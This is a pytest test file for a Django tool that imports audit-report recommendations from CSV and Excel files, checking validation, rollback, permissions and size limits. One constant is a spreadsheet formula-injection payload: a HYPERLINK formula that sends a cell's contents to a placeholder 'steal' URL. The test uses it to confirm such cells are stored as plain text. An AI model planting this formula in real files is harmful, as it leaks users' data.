"""Recording a report's recommendations from a CSV or Excel file: upload, preview each row, confirm; all rows or none,
each with its history row and audit entry."""

import csv
import datetime
import html
import io

import openpyxl
import pytest
from django.contrib.contenttypes.models import ContentType
from django.contrib.messages import get_messages
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from bvgov.roles import sync_roles
from core.models import AuditEntry
from recommendations import imports
from recommendations.choices import DecisionStatus, ImplementationStatus, Priority
from recommendations.import_views import SESSION_KEY
from recommendations.models import Recommendation
from tests.programmes.factories import PersonFactory
from tests.recommendations.factories import RecommendationFactory, SourceFactory

pytestmark = pytest.mark.django_db

UPLOAD_URL = reverse("recommendations:recommendation_import")
CONFIRM_URL = reverse("recommendations:recommendation_import_confirm")
HEADER = ["number", "text", "theme", "owner", "target date", "priority", "response"]
HTMX = {"HTTP_HX_REQUEST": "true"}
FORMULA = '=HYPERLINK("http://example.com/steal?d="&A1,"Click here")'


@pytest.fixture(autouse=True)
def role_permissions(db):
    sync_roles()


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    """Each test keeps its waiting files in a folder of its own, so that it can see exactly what is left there."""
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def waiting_files() -> list[str]:
    return default_storage.listdir("imports")[1] if default_storage.exists("imports") else []


@pytest.fixture
def source():
    return SourceFactory(title="District Audit management letter 2003")


@pytest.fixture
def people():
    return {
        "house": PersonFactory(name="Steve House", job_title="Assistant Commissioner"),
        "godwin": PersonFactory(name="Tim Godwin", job_title="Deputy Commissioner"),
    }


def good_rows():
    return [
        ["1", "Produce a demand management strategy.", "Demand", "  steve HOUSE ", "December 2003", "High", "Agreed."],
        ["2", "Report implementation to the committee quarterly.", "", "Tim Godwin", "Ongoing", "", "In place."],
        ["3", "Attach funding to every recommendation.", "Finance", "", "31/03/2004", "low", ""],
    ]


def csv_file(rows, *, header=HEADER, name="district-audit.csv", encoding="utf-8-sig") -> SimpleUploadedFile:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode(encoding), content_type="text/csv")


def xlsx_file(rows, *, header=HEADER, name="district-audit.xlsx") -> SimpleUploadedFile:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(
        name, buffer.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


def upload(client, source, file, **extra):
    return client.post(UPLOAD_URL, {"source": source.pk, "file": file}, **extra)


def confirm(client, action="import"):
    return client.post(CONFIRM_URL, {"action": action})


def page_text(response) -> str:
    return html.unescape(response.content.decode())


def message_texts(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def imported_history():
    return Recommendation.history.filter(history_change_reason__startswith="Imported from")


def recommendation_audit_entries():
    return AuditEntry.objects.filter(content_type=ContentType.objects.get_for_model(Recommendation))


def assert_nothing_written(recommendations_before: int, history_before: int):
    assert Recommendation.objects.count() == recommendations_before
    assert Recommendation.history.count() == history_before
    assert not imported_history().exists()


class TestGoodFiles:
    @pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8"], ids=["with BOM", "without BOM"])
    def test_a_good_csv_imports_every_row_with_its_history_and_audit_entry(
        self, manager_client, manager_user, source, people, encoding
    ):
        response = upload(manager_client, source, csv_file(good_rows(), encoding=encoding))
        assert response.status_code == 302
        assert response["Location"] == CONFIRM_URL
        stored_name = manager_client.session[SESSION_KEY]["stored_name"]
        assert stored_name.startswith("imports/") and default_storage.exists(stored_name)

        preview = manager_client.get(CONFIRM_URL)
        assert preview.status_code == 200
        text = page_text(preview)
        assert "3 rows ready to import" in text
        assert text.count("govuk-tag--green") == 3
        assert "Import 3 recommendations" in text
        assert Recommendation.objects.count() == 0

        response = confirm(manager_client)
        assert response.status_code == 302
        assert response["Location"] == f"/recommendations/?source={source.pk}"
        assert message_texts(response) == [f"3 recommendations imported into {source}"]

        by_number = {rec.number: rec for rec in Recommendation.objects.filter(source=source)}
        assert set(by_number) == {"1", "2", "3"}
        first, second, third = by_number["1"], by_number["2"], by_number["3"]
        assert first.text == "Produce a demand management strategy."
        assert first.theme == "Demand"
        assert first.owner == people["house"]
        assert first.original_target_date == datetime.date(2003, 12, 31)
        assert first.timescale == "December 2003"
        assert first.target_ongoing is False
        assert first.priority == Priority.HIGH
        assert first.response == "Agreed."
        assert second.target_ongoing is True
        assert second.original_target_date is None
        assert second.owner == people["godwin"]
        assert second.priority == ""
        assert third.owner is None
        assert third.original_target_date == datetime.date(2004, 3, 31)
        assert third.timescale == ""
        assert third.priority == Priority.LOW
        for recommendation in by_number.values():
            assert recommendation.review == source.review
            assert recommendation.decision_status == DecisionStatus.PROPOSED
            assert recommendation.implementation_status == ImplementationStatus.NOT_STARTED

        reason = f"Imported from district-audit.csv into {source}"
        history = list(Recommendation.history.all())
        assert len(history) == 3
        assert {record.history_type for record in history} == {"+"}
        assert {record.history_user for record in history} == {manager_user}
        assert {record.history_change_reason for record in history} == {reason}

        entries = list(recommendation_audit_entries())
        assert len(entries) == 3
        assert {entry.object_id for entry in entries} == {rec.pk for rec in by_number.values()}
        assert {entry.user_id for entry in entries} == {manager_user.pk}
        assert {entry.reason for entry in entries} == {reason}
        assert {entry.review_id for entry in entries} == {source.review_id}
        assert {"field": "text", "label": "Text", "old": "", "new": "Produce a demand management strategy."} in next(
            entry.changes for entry in entries if entry.object_id == first.pk
        )

        assert waiting_files() == []
        assert SESSION_KEY not in manager_client.session

    def test_a_good_xlsx_imports_every_row_reading_date_cells_and_numbers(
        self, manager_client, manager_user, source, people
    ):
        rows = [
            [1, "Produce a demand management strategy.", "Demand", "Steve House", datetime.date(2003, 12, 31), "high"],
            [2, "Report to the committee quarterly.", None, "tim godwin", "ONGOING", None],
            [3.0, "Attach funding.", None, None, "December 2003", "Low"],
        ]
        assert upload(manager_client, source, xlsx_file(rows, header=HEADER[:6])).status_code == 302
        assert "3 rows ready to import" in page_text(manager_client.get(CONFIRM_URL))

        response = confirm(manager_client)
        assert response.status_code == 302
        assert message_texts(response) == [f"3 recommendations imported into {source}"]
        by_number = {rec.number: rec for rec in Recommendation.objects.all()}
        assert set(by_number) == {"1", "2", "3"}
        assert by_number["1"].original_target_date == datetime.date(2003, 12, 31)
        assert by_number["1"].timescale == ""
        assert by_number["1"].owner == people["house"]
        assert by_number["2"].target_ongoing is True
        assert by_number["2"].owner == people["godwin"]
        assert by_number["3"].original_target_date == datetime.date(2003, 12, 31)
        assert by_number["3"].timescale == "December 2003"
        assert by_number["3"].response == ""

        history = list(Recommendation.history.all())
        assert len(history) == 3
        assert {record.history_user for record in history} == {manager_user}
        assert {record.history_change_reason for record in history} == {
            f"Imported from district-audit.xlsx into {source}"
        }
        assert recommendation_audit_entries().count() == 3

    def test_headers_are_matched_in_any_case_with_spaces_or_underscores_and_timescale_names_the_date(
        self, manager_client, source, people
    ):
        header = [" Number", "TEXT", "Owner", "Timescale", "Notes"]
        rows = [["7", "Publish the strategy.", "Steve House", "Dec 2003", "not imported"]]
        upload(manager_client, source, csv_file(rows, header=header))
        text = page_text(manager_client.get(CONFIRM_URL))
        assert "1 row ready to import" in text
        assert "This column is not imported: Notes." in text
        confirm(manager_client)
        recommendation = Recommendation.objects.get()
        assert (recommendation.original_target_date, recommendation.timescale) == (
            datetime.date(2003, 12, 31),
            "Dec 2003",
        )

        header = ["number", "text", "owner", "Target_Date"]
        upload(manager_client, source, csv_file([["8", "Another.", "", "2004-01-31"]], header=header))
        assert confirm(manager_client).status_code == 302
        assert Recommendation.objects.get(number="8").original_target_date == datetime.date(2004, 1, 31)

    def test_two_people_with_one_name_need_the_job_title(self, manager_client, source):
        PersonFactory(name="John Smith", job_title="Director of Resources")
        director = PersonFactory(name="John Smith", job_title="Director of Human Resources")
        upload(manager_client, source, csv_file([["1", "Recommend.", "", "John Smith", "", "", ""]]))
        text = page_text(manager_client.get(CONFIRM_URL))
        assert "Row 2, column 'owner': 2 people are called 'John Smith' in the register" in text

        upload(manager_client, source, csv_file([["1", "Recommend.", "", "john smith, director of human resources"]]))
        assert confirm(manager_client).status_code == 302
        assert Recommendation.objects.get().owner == director

    def test_a_formula_cell_is_stored_verbatim_as_text(self, manager_client, source, people):
        upload(manager_client, source, csv_file([["1", FORMULA, "", "", "", "", FORMULA]]))
        confirm(manager_client)
        upload(manager_client, source, xlsx_file([[2, FORMULA + " again", "=1+1", None, None, None, "=SUM(1,2)"]]))
        confirm(manager_client)

        from_csv, from_xlsx = Recommendation.objects.order_by("number")
        assert from_csv.text == FORMULA
        assert from_csv.response == FORMULA
        assert from_xlsx.text == FORMULA + " again"
        assert from_xlsx.theme == "=1+1"
        assert from_xlsx.response == "=SUM(1,2)"

    def test_a_blank_number_is_shown_as_no_number_not_none(self, manager_client, source, people):
        upload(manager_client, source, csv_file([["", "Publish the plan.", "", "", "", "", ""]]))

        text = page_text(manager_client.get(CONFIRM_URL))

        assert "1 row ready to import" in text
        assert '<span class="bvgov-empty">No number</span>' in text
        assert ">None<" not in text

    @pytest.mark.parametrize("extension", ["csv", "xlsx"])
    def test_the_template_offered_on_the_upload_page_imports_as_it_is(self, manager_client, source, people, extension):
        page = manager_client.get(reverse("recommendations:recommendation_import")).content.decode()
        template_url = reverse(f"recommendations:recommendation_import_template_{extension}")
        assert f'href="{template_url}" download' in page

        template = manager_client.get(template_url)
        assert template.status_code == 200
        assert template["Content-Disposition"] == f'attachment; filename="recommendations-import-template.{extension}"'
        content = b"".join(template.streaming_content) if template.streaming else template.content
        upload(manager_client, source, SimpleUploadedFile(f"template.{extension}", content))

        text = page_text(manager_client.get(CONFIRM_URL))
        assert "1 row ready to import" in text
        assert "The MPS should produce a demand management strategy with clear milestones." in text
        assert "Steve House" in text

    def test_a_member_may_not_download_the_template(self, member_client):
        response = member_client.get(reverse("recommendations:recommendation_import_template_csv"))
        assert response.status_code == 403

    def test_the_upload_page_offers_the_source_given_in_the_address(self, manager_client, source):
        response = manager_client.get(f"{UPLOAD_URL}?source={source.pk}")
        assert response.status_code == 200
        assert response.context["form"].initial["source"] == source.pk
        assert f'<option value="{source.pk}" selected>' in response.content.decode()
        assert "data-bvgov-upload-progress" in response.content.decode()


ROW_PROBLEMS = {
    "unknown owner": (
        [["1", "Recommend.", "", "J Smith", "", "", ""]],
        "Row 2, column 'owner': no person called 'J Smith' in the register",
    ),
    "bad date": (
        [["1", "Recommend.", "", "", "2003-12-31", "", ""], ["2", "Recommend more.", "", "", "31/13/2003", "", ""]],
        "Row 3, column 'target date': '31/13/2003' is not a date",
    ),
    "number already in the register": (
        [["3", "Recommend.", "", "", "", "", ""]],
        "Row 2, column 'number': 3 is already used in this report",
    ),
    "number twice in the file": (
        [["1", "Recommend.", "", "", "", "", ""], ["1", "Recommend again.", "", "", "", "", ""]],
        "Row 3, column 'number': 1 is also the number of row 2 of this file",
    ),
    "bad priority": (
        [["1", "Recommend.", "", "", "", "urgent", ""]],
        "Row 2, column 'priority': 'urgent' is not one of high, low",
    ),
    "no text": ([["1", "  ", "", "", "", "", ""]], "Row 2, column 'text': the recommendation has no text"),
    "text already in the report, with a blank number": (
        [["", "  the MPS should produce a demand MANAGEMENT strategy with clear milestones. ", "", "", "", "", ""]],
        "Row 2, column 'text': the same text as recommendation 3 already in this report",
    ),
    "text twice in the file": (
        [["", "Recommend.", "", "", "", "", ""], ["", "Recommend.", "", "", "", "", ""]],
        "Row 3, column 'text': the same text as row 2 of this file",
    ),
}


class TestRowProblems:
    @pytest.mark.parametrize("rows, message", ROW_PROBLEMS.values(), ids=ROW_PROBLEMS.keys())
    def test_the_preview_shows_the_problem_and_confirming_writes_nothing(
        self, manager_client, source, people, rows, message
    ):
        RecommendationFactory(source=source, number="3")
        recommendations_before, history_before = Recommendation.objects.count(), Recommendation.history.count()

        assert upload(manager_client, source, csv_file(rows)).status_code == 302
        preview = manager_client.get(CONFIRM_URL)
        assert preview.status_code == 200
        text = page_text(preview)
        assert message in text
        assert "1 row has problems: nothing will be written until they are fixed" in text
        assert "govuk-tag--red" in text
        assert 'href="#row-' in text
        assert 'value="import"' not in text
        assert "Upload a corrected file" in text

        refused = confirm(manager_client)
        assert refused.status_code == 409
        assert message in page_text(refused)
        assert_nothing_written(recommendations_before, history_before)
        assert AuditEntry.objects.filter(reason__startswith="Imported from").count() == 0

    def test_the_same_problems_are_found_in_a_workbook(self, manager_client, source, people):
        rows = [[1, "Recommend.", None, "J Smith", "31/13/2003", "urgent"]]
        upload(manager_client, source, xlsx_file(rows, header=HEADER[:6]))
        text = page_text(manager_client.get(CONFIRM_URL))
        assert "Row 2, column 'owner': no person called 'J Smith' in the register" in text
        assert "Row 2, column 'target date': '31/13/2003' is not a date" in text
        assert "Row 2, column 'priority': 'urgent' is not one of high, low" in text
        assert confirm(manager_client).status_code == 409
        assert Recommendation.objects.count() == 0

    def test_the_error_summary_links_to_the_first_problems_and_the_table_lists_them_all(
        self, manager_client, source, people
    ):
        rows = [[str(n), f"Recommend {n}.", "", f"Nobody {n}", "", "", ""] for n in range(1, 15)]
        upload(manager_client, source, csv_file(rows))
        response = manager_client.get(CONFIRM_URL)
        text = page_text(response)
        assert "14 rows have problems" in text
        assert len(response.context["summary_problems"]) == 10
        assert "There are 4 more problems in the table below." in text
        assert text.count("no person called 'Nobody") == 14 + 10
        assert 'href="#row-2"' in text and 'id="row-15"' in text

    def test_a_register_change_between_preview_and_confirm_makes_confirm_refuse(self, manager_client, source, people):
        upload(manager_client, source, csv_file(good_rows()))
        assert "3 rows ready to import" in page_text(manager_client.get(CONFIRM_URL))
        RecommendationFactory(source=source, number="3")
        history_before = Recommendation.history.count()

        response = confirm(manager_client)
        assert response.status_code == 409
        text = page_text(response)
        assert "Row 4, column 'number': 3 is already used in this report" in text
        assert "Nothing was imported." in text
        assert list(Recommendation.objects.values_list("number", flat=True)) == ["3"]
        assert Recommendation.history.count() == history_before
        assert not imported_history().exists()

    def test_a_clash_written_between_the_check_and_the_insert_rolls_everything_back(
        self, manager_client, source, people, monkeypatch
    ):
        upload(manager_client, source, csv_file(good_rows()))
        check_rows, calls = imports.check_rows, []

        def check_then_clash(**kwargs):
            """The check inside the transaction passes; then someone records number 1 before the insert."""
            preview = check_rows(**kwargs)
            calls.append(kwargs)
            if len(calls) == 1:
                RecommendationFactory(source=source, number="1")
            return preview

        monkeypatch.setattr(imports, "check_rows", check_then_clash)
        response = confirm(manager_client)
        assert response.status_code == 409
        assert "The register changed while the file was being imported, so nothing was written." in page_text(response)
        assert len(calls) == 2
        assert Recommendation.objects.count() == 0
        assert Recommendation.history.count() == 0
        assert not recommendation_audit_entries().exists()

    def test_an_owner_removed_between_preview_and_confirm_makes_confirm_refuse(self, manager_client, source):
        owner = PersonFactory(name="Steve House")
        upload(manager_client, source, csv_file([["1", "Recommend.", "", "Steve House", "", "", ""]]))
        assert "1 row ready to import" in page_text(manager_client.get(CONFIRM_URL))
        owner.delete()
        response = confirm(manager_client)
        assert response.status_code == 409
        assert "no person called 'Steve House' in the register" in page_text(response)
        assert Recommendation.objects.count() == 0


def _many_rows(n: int):
    return [[str(i), f"Recommend {i}.", "", "", "", "", ""] for i in range(1, n + 1)]


FILE_PROBLEMS = {
    "missing column": (
        lambda: csv_file([["1", "Recommend.", "December 2003"]], header=["number", "text", "target date"]),
        "The file has no 'owner' column",
    ),
    "not UTF-8": (
        lambda: SimpleUploadedFile("recs.csv", "number,text,owner,target date\n1,café,,\n".encode("cp1252")),
        "The file is not UTF-8 encoded text: save it as CSV UTF-8",
    ),
    "empty file": (lambda: SimpleUploadedFile("recs.csv", b""), "The selected file is empty"),
    "blank file": (lambda: SimpleUploadedFile("recs.csv", b"\xef\xbb\xbf\r\n,,,\r\n"), "The file is empty"),
    "header only": (lambda: csv_file([]), "The file has a header row but no recommendations under it"),
    "wrong extension": (
        lambda: SimpleUploadedFile("recs.xls", b"number,text,owner,target date\n"),
        "The selected file must be a CSV or an Excel .xlsx file",
    ),
    "not really a workbook": (
        lambda: SimpleUploadedFile("recs.xlsx", b"number,text,owner,target date\n1,a,,\n"),
        "The file is not an Excel .xlsx workbook",
    ),
    "no file": (lambda: "", "Select a CSV or Excel file"),
}


class TestFileProblems:
    @pytest.mark.parametrize("make_file, message", FILE_PROBLEMS.values(), ids=FILE_PROBLEMS.keys())
    def test_the_file_is_refused_and_confirming_writes_nothing(self, manager_client, source, make_file, message):
        recommendations_before, history_before = Recommendation.objects.count(), Recommendation.history.count()
        response = upload(manager_client, source, make_file())
        assert response.status_code == 400
        text = page_text(response)
        assert message in text
        assert "govuk-error-summary" in text
        assert SESSION_KEY not in manager_client.session

        confirmed = confirm(manager_client)
        assert confirmed.status_code == 302
        assert confirmed["Location"] == UPLOAD_URL
        assert_nothing_written(recommendations_before, history_before)

    def test_too_many_rows_are_refused(self, manager_client, source, monkeypatch):
        monkeypatch.setattr(imports, "MAX_ROWS", 3)
        assert upload(manager_client, source, csv_file(_many_rows(3))).status_code == 302
        response = upload(manager_client, source, csv_file(_many_rows(4)))
        assert response.status_code == 400
        assert "The file has more than 3 rows: split it into files of 3 rows or fewer" in page_text(response)
        assert SESSION_KEY not in manager_client.session
        assert confirm(manager_client).status_code == 302
        assert Recommendation.objects.count() == 0

    def test_a_file_over_the_size_limit_is_refused_unread(self, manager_client, source, monkeypatch):
        monkeypatch.setattr(imports, "MAX_BYTES", 1024 * 1024)
        big = csv_file([["1", "x" * (1024 * 1024), "", "", "", "", ""]])
        response = upload(manager_client, source, big)
        assert response.status_code == 400
        assert "The selected file must be smaller than 1 MB" in page_text(response)
        assert confirm(manager_client).status_code == 302
        assert Recommendation.objects.count() == 0

    def test_a_new_upload_replaces_the_file_waiting(self, manager_client, source, people):
        upload(manager_client, source, csv_file(good_rows()))
        first = manager_client.session[SESSION_KEY]["stored_name"]
        upload(manager_client, source, csv_file(good_rows()[:1]))
        assert not default_storage.exists(first)
        assert len(waiting_files()) == 1
        confirm(manager_client)
        assert Recommendation.objects.count() == 1


class TestConfirmation:
    def test_confirm_with_nothing_waiting_redirects_back_with_a_message(self, manager_client):
        for method in (manager_client.post, manager_client.get):
            response = method(CONFIRM_URL, follow=False)
            assert response.status_code == 302
            assert response["Location"] == UPLOAD_URL
            assert "There is no file waiting to be imported: choose the report and the file to import." in (
                message_texts(response)
            )
        assert Recommendation.objects.count() == 0

    def test_a_file_waiting_for_another_user_cannot_be_confirmed(self, manager_client, manager_user, source, people):
        upload(manager_client, source, csv_file(good_rows()))
        session = manager_client.session
        stored_name = session[SESSION_KEY]["stored_name"]
        session[SESSION_KEY] = {**session[SESSION_KEY], "user_id": manager_user.pk + 1000}
        session.save()
        response = confirm(manager_client)
        assert response.status_code == 302
        assert response["Location"] == UPLOAD_URL
        assert Recommendation.objects.count() == 0
        assert not default_storage.exists(stored_name)

    def test_a_session_naming_a_file_outside_the_imports_folder_is_ignored(self, manager_client, manager_user, source):
        default_storage.save("evidence/keep.csv", io.BytesIO(b"number,text,owner,target date\n1,a,,\n"))
        session = manager_client.session
        session[SESSION_KEY] = {
            "stored_name": "evidence/keep.csv",
            "filename": "keep.csv",
            "user_id": manager_user.pk,
            "source_id": source.pk,
        }
        session.save()
        assert confirm(manager_client).status_code == 302
        assert Recommendation.objects.count() == 0
        assert default_storage.exists("evidence/keep.csv")

    def test_cancel_deletes_the_file_and_writes_nothing(self, manager_client, source, people):
        upload(manager_client, source, csv_file(good_rows()))
        stored_name = manager_client.session[SESSION_KEY]["stored_name"]
        response = confirm(manager_client, action="cancel")
        assert response.status_code == 302
        assert response["Location"] == f"{UPLOAD_URL}?source={source.pk}"
        assert message_texts(response) == ["Import cancelled: nothing was recorded from district-audit.csv."]
        assert not default_storage.exists(stored_name)
        assert SESSION_KEY not in manager_client.session
        assert Recommendation.objects.count() == 0

    def test_a_member_may_not_import(self, member_client, source, people):
        assert member_client.get(UPLOAD_URL).status_code == 403
        assert upload(member_client, source, csv_file(good_rows())).status_code == 403
        assert member_client.get(CONFIRM_URL).status_code == 403
        assert confirm(member_client).status_code == 403
        assert Recommendation.objects.count() == 0
        assert waiting_files() == []

    def test_signed_out_visitors_are_sent_to_sign_in(self, client):
        response = client.get(UPLOAD_URL)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


class TestWithHtmx:
    def test_a_refused_file_comes_back_as_a_200_for_htmx_to_swap_in(self, manager_client, source):
        response = upload(manager_client, source, SimpleUploadedFile("recs.xls", b"x"), **HTMX)
        assert response.status_code == 200
        assert "The selected file must be a CSV or an Excel .xlsx file" in page_text(response)

    def test_the_preview_after_an_htmx_upload_puts_its_address_in_the_history(self, manager_client, source, people):
        assert upload(manager_client, source, csv_file(good_rows()), **HTMX).status_code == 302
        response = manager_client.get(CONFIRM_URL, **HTMX)
        assert response.status_code == 200
        assert response["HX-Push-Url"] == CONFIRM_URL
        assert 'id="main-content"' in response.content.decode()


class TestQueries:
    @staticmethod
    def preview_queries(client, source, n: int) -> int:
        rows = [[str(i), f"Recommendation {i}.", "", "Steve House", "December 2003", "high", ""] for i in range(n)]
        upload(client, source, csv_file(rows))
        with CaptureQueriesContext(connection) as queries:
            assert client.get(CONFIRM_URL).status_code == 200
        return len(queries)

    def test_the_preview_takes_the_same_queries_for_2_rows_as_for_50(self, manager_client, source, people):
        assert self.preview_queries(manager_client, source, 2) == self.preview_queries(manager_client, source, 50)

    @staticmethod
    def import_queries(client, source, n: int) -> int:
        rows = [
            [f"{n}-{i}", f"Recommendation {n}-{i}.", "", "Steve House", "December 2003", "high", ""] for i in range(n)
        ]
        upload(client, source, csv_file(rows))
        with CaptureQueriesContext(connection) as queries:
            assert confirm(client).status_code == 302
        return len(queries)

    def test_importing_takes_the_same_queries_for_2_rows_as_for_50(self, manager_client, source, people):
        assert self.import_queries(manager_client, source, 2) == self.import_queries(manager_client, source, 50)
        assert recommendation_audit_entries().count() == 52


class TestReading:
    @pytest.mark.parametrize(
        "written, expected",
        [
            ("2003-12-31", (datetime.date(2003, 12, 31), False, "")),
            ("2003-12-31 00:00:00", (datetime.date(2003, 12, 31), False, "")),
            ("31/12/2003", (datetime.date(2003, 12, 31), False, "")),
            ("1/2/2004", (datetime.date(2004, 2, 1), False, "")),
            ("December 2003", (datetime.date(2003, 12, 31), False, "December 2003")),
            ("february 2004", (datetime.date(2004, 2, 29), False, "february 2004")),
            ("Sept 2003", (datetime.date(2003, 9, 30), False, "Sept 2003")),
            ("  ongoing ", (None, True, "ongoing")),
            ("", (None, False, "")),
            (datetime.date(2003, 12, 31), (datetime.date(2003, 12, 31), False, "")),
        ],
    )
    def test_target_dates(self, written, expected):
        assert imports.parse_target(written) == expected

    @pytest.mark.parametrize("written", ["31/13/2003", "30/02/2004", "Complete", "Smarch 2003", "12/31/2003", "2003"])
    def test_what_is_not_a_target_date(self, written):
        with pytest.raises(ValueError):
            imports.parse_target(written)

    def test_a_header_named_twice_is_refused(self):
        with pytest.raises(imports.ImportFileError, match="names the column 'owner' more than once"):
            imports.read_table("recs.csv", b"number,text,owner,Owner,target date\n1,a,b,c,\n")

    def test_blank_rows_are_skipped_and_rows_keep_their_spreadsheet_numbers(self):
        table = imports.read_table("recs.csv", b"number,text,owner,target date\n\n1,a,,\n,,,\n2,b,,\n")
        assert [row.line for row in table.rows] == [3, 5]


class TestPreviewLimits:
    """The preview reads the stored file a row at a time and shows a page of it, so neither the page nor the worker
    grows with the file; what one cell, and the whole file, may hold is bounded."""

    def test_the_preview_shows_one_page_of_rows_with_the_whole_files_counts(self, manager_client, source, people):
        rows = [[str(n), f"Recommendation {n}.", "", "Tim Godwin", "Ongoing", "", ""] for n in range(1, 251)]
        rows[248][3] = "Nobody at all"  # row 250 of the sheet, on the third page
        upload(manager_client, source, xlsx_file(rows))

        first = page_text(manager_client.get(CONFIRM_URL))
        assert 'id="row-2"' in first and 'id="row-101"' in first
        assert 'id="row-102"' not in first and 'id="row-251"' not in first
        assert "250 rows in the file (at most 5,000)" in first
        assert "249 rows ready to import" in first
        assert "1 row has problems" in first
        assert 'href="?page=3#row-250"' in first
        assert "Rows 1 to 100 of 250, page 1 of 3" in first

        third = page_text(manager_client.get(CONFIRM_URL, {"page": 3}))
        assert 'id="row-202"' in third and 'id="row-251"' in third and 'id="row-201"' not in third
        assert "Row 250, column 'owner': no person called 'Nobody at all' in the register" in third
        assert 'href="#row-250"' in third
        # A page past the end, or not a number, is the last page or the first.
        assert 'id="row-251"' in page_text(manager_client.get(CONFIRM_URL, {"page": 99}))
        assert 'id="row-2"' in page_text(manager_client.get(CONFIRM_URL, {"page": "x"}))

    def test_a_cell_longer_than_the_limit_is_refused_on_upload(self, manager_client, source):
        long_text = "x" * (imports.MAX_CELL_CHARS + 1)
        response = upload(manager_client, source, xlsx_file([["1", long_text, "", "", "", "", ""]]))
        assert response.status_code == 400
        assert "Row 2, column 'text' holds more than 10,000 characters: no cell may be longer" in page_text(response)
        assert SESSION_KEY not in manager_client.session
        assert waiting_files() == []

    def test_a_small_workbook_repeating_a_long_text_in_every_row_is_refused(self, manager_client, source, monkeypatch):
        # Compressed, a workbook repeating one text 3,000 times is a few KB; read, it is all of them.
        monkeypatch.setattr(imports, "MAX_TEXT_CHARS", 1_000_000)
        rows = [[str(n), "y" * 5_000, "", "", "", "", ""] for n in range(1, 3001)]
        file = xlsx_file(rows)
        assert file.size < 300 * 1024
        response = upload(manager_client, source, file)
        assert response.status_code == 400
        assert "The file holds more than 1,000,000 characters of text: split it into smaller files" in page_text(
            response
        )
        assert waiting_files() == []

    def test_a_stored_file_that_no_longer_reads_sends_back_to_the_upload_with_the_reason(
        self, manager_client, source, monkeypatch
    ):
        upload(manager_client, source, csv_file(_many_rows(5)))
        monkeypatch.setattr(imports, "MAX_ROWS", 3)
        response = manager_client.get(CONFIRM_URL)
        assert response.status_code == 302
        assert any("more than 3 rows" in text for text in message_texts(response))
        assert waiting_files() == []
